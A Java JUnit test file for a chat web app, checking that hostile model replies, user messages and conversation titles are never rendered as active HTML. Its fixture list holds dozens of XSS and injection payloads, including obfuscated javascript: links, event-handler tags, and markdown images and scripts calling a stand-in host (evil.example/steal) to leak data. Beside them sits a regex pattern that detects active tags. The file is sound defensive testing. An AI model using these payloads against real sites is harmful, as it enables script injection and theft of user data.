package dev.holdfast.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.holdfast.Answer;
import dev.holdfast.Events;
import dev.holdfast.Person;
import dev.holdfast.RunningSite;
import dev.holdfast.ScriptedModel;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever a model, a person or a title says: the page runs nothing of it and asks nobody for anything. */
class HostileReplyTest {
    /** A tag; what is shown as text has no bare angle brackets, and neither have attributes that our page writes. */
    private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^<>]*>");

    /** Elements and attributes by which a page does something or fetches something. */
    private static final Pattern ACTIVE = Pattern.compile(
            "<(script|style|iframe|object|embed|img|image|video|audio|source|base|meta|link|form|input|math|frame)\\b.*"
                    + "|.*[\\s\"'/](on[a-z]+|style|srcdoc|srcset|src|background|ping|action|formaction)\\s*=.*"
                    + "|.*href\\s*=\\s*[\"']?\\s*(javascript|data|vbscript|file|//).*",
            Pattern.CASE_INSENSITIVE | Pattern.DOTALL);

    @TempDir
    Path data;

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
                "</div></article><script>alert(1)</script>",
                "</textarea></template></title></style></noscript><script>alert(1)</script>",
                "<!--><script>alert(1)</script-->",
                "<img src=x onerror=alert(1)>",
                "![x](https://evil.example/steal?q=Olga)",
                "![x][r]\n\n[r]: https://evil.example/steal",
                "<img src=\"https://evil.example/steal\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox)",
                "[x](//evil.example/)",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "<svg onload=alert(1)><image href=https://evil.example/></svg>",
                "<math><mtext><script>alert(1)</script></mtext></math>",
                "<style>*{background:url(https://evil.example/)}</style>",
                "<div style=\"background:url(https://evil.example/)\">x</div>",
                "<link rel=stylesheet href=https://evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<base href=https://evil.example/>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<form action=https://evil.example/><input name=x></form>",
                "```\"><script>alert(1)</script>\nx\n```",
                "``` x\" onmouseover=\"alert(1)\n```",
                "[x](https://ok.example/ \"t\\\" onclick=\\\"alert(1)\")",
                "${7*7} [[${7*7}]] th:text=\"x\" *{x} __${x}__",
                "\u0000<script\u0000>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>");
    }

    private static List<String> active(String html) {
        return TAG.matcher(html)
                .results()
                .map(MatchResult::group)
                .filter(tag -> ACTIVE.matcher(tag).matches())
                .toList();
    }

    private static void assertHarmless(String html) {
        assertEquals(List.of(), active(withoutOwn(html)), html);
    }

    /** The page around the words has scripts, forms and links of its own. */
    private static String words(String page) {
        StringBuilder words = new StringBuilder();
        Pattern.compile("<article.*?</article>", Pattern.DOTALL)
                .matcher(page.replaceAll("(?s)<template.*?</template>", ""))
                .results()
                .forEach(article -> words.append(article.group()));
        return words.toString();
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothingOfItIsActiveInThePage(String hostile) {
        try (RunningSite site = RunningSite.start(data, ScriptedModel.answering("Look: x\n\n" + hostile))) {
            Person olga = site.person();
            String id = olga.beginAndHear(hostile);
            olga.post("/c/" + id + "/title", "title", hostile.replaceAll("\\p{Cntrl}", ""));

            Answer page = olga.get("/c/" + id);
            assertEquals(200, page.status());
            assertTrue(words(page.text()).contains("Look: x"), "a guard: the words are looked at");
            assertHarmless(words(page.text()));
            assertHarmless(olga.get("/c/" + id + "/messages/m2").text());
            assertHarmless(olga.get("/c/" + id + "/messages?before=m2").text());
            assertHarmless(olga.get("/conversations").text());
            assertHarmless(olga.get("/search?q=x").find("<main(.*)</main>"));
            assertHarmless(page.find("(<h1.*?</h1>)") + page.find("<nav(.*?)</nav>"));
            assertFalse(page.text().contains("<script>"));
            assertFalse(page.text().contains("src=\"http"));
            assertEquals(1, page.text().split("<script").length - 1, "the page's own");
            assertFalse(page.text().contains(">49<"), "no template is evaluated");
            assertEquals(303, olga.post("/c/" + id + "/delete").status());
            String trash = olga.get("/trash").find("<ul(.*)</ul>");
            assertTrue(trash.contains("/c/" + id + "/restore"), "a guard: it is listed");
            assertHarmless(trash);
        }
    }

    /** Links within the page, the field to search in, the buttons of the trash and below a message. */
    private static String withoutOwn(String html) {
        return html.replaceAll(
                        "<form method=\"post\"[^>]*action=\"/c/[a-z0-9]*/(regenerate|branch|edit|keep)\"[^>]*>", "")
                .replaceAll("<input type=\"hidden\" name=\"(message|keep)\" value=\"(m[0-9]+|true)\">", "")
                .replaceAll(
                        "<textarea name=\"text\" required dir=\"auto\" autocomplete=\"off\" aria-label=\"Edit\">", "")
                .replaceAll("(?s)<form class=\"find\".*?</form>", "")
                .replaceAll("<form method=\"post\" action=\"/c/[a-z0-9]*/restore\">", "")
                .replaceAll("href=\"/[^\"]*\"", "");
    }

    /** A reply that is still coming is shown as text. */
    @ParameterizedTest
    @MethodSource("hostile")
    void nothingOfItIsActiveWhileItComes(String hostile) {
        ScriptedModel model = ScriptedModel.byHand();
        try (RunningSite site = RunningSite.start(data, model)) {
            Person olga = site.person();
            String id = olga.begin("Hello");
            try (Events events = olga.events("/c/" + id + "/events?after=0")) {
                model.awaitCall().say(hostile);
                Events.Event delta = events.await("delta").get(2);
                assertEquals(hostile, delta.json().get("text").getAsString());
            }
            assertHarmless(words(olga.get("/c/" + id).text()));
        }
    }

    /** So that the patterns above would see something. */
    @Test
    void activeContentIsRecognised() {
        for (String active : List.of(
                "<script>",
                "<img src=x>",
                "<p onclick=x>",
                "<p class=\"a\"onclick=x>",
                "<a href=\"javascript:x\">",
                "<a href='//evil.example'>",
                "<p style=\"x\">")) {
            assertEquals(List.of(active), active("<p>" + active + "x</p>"));
        }
        assertHarmless(
                "<p>online &lt;script src=x&gt; onclick=x <a href=\"https://x.example/\" title=\"on\">x</a></p>");
    }
}
